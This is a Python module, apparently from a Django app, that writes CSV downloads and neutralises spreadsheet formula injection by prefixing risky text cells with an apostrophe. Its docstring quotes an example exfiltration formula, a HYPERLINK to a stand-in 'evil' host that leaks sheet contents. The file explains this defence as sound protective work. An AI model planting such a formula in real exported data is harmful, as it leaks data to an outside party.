"""The one CSV writer of every download (console tables, the API's reconciliation ?format=csv).

Cells are data that other parties wrote (facility names, serials, reasons,
addresses), and inspectors open the files in spreadsheets, which run a cell
that begins with `=`, `+`, `-` or `@` as a formula (tab and carriage return
too, OWASP's "CSV injection"): `=HYPERLINK("https://evil/?"&A1, "click")`
leaks the sheet. So every text cell that begins with one of those characters
is written with a leading `'`, which spreadsheets show as text and hide.

Numbers are written as numbers: a Python int, float or Decimal (a count, a
negative coordinate) cannot carry a formula, and prefixing it would turn the
column into text. Text that merely looks like a number ("-5" typed by a
party) is text, and is prefixed like any other.
"""

import csv
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(row):
    return [safe_cell(v) for v in row]


class SafeWriter:
    """csv.writer's writerow/writerows with every cell neutralised."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self._writer.writerow(safe_row(row))


class _Echo:
    def write(self, value):
        return value


def csv_response(filename, header, rows, stream=True):
    """`rows` (any iterable of sequences) as a CSV attachment, every cell through safe_cell.

    The one CSV response of every download. Streamed by default, so a table of a
    million rows read in keyset chunks is never held whole; `stream=False` for
    rows already in memory (an API answer its clients read as one body).
    """
    from django.http import HttpResponse, StreamingHttpResponse

    writer = SafeWriter(_Echo())

    def lines():
        yield writer.writerow(header)
        for row in rows:
            yield writer.writerow(row)

    if stream:
        response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    else:
        response = HttpResponse("".join(lines()), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
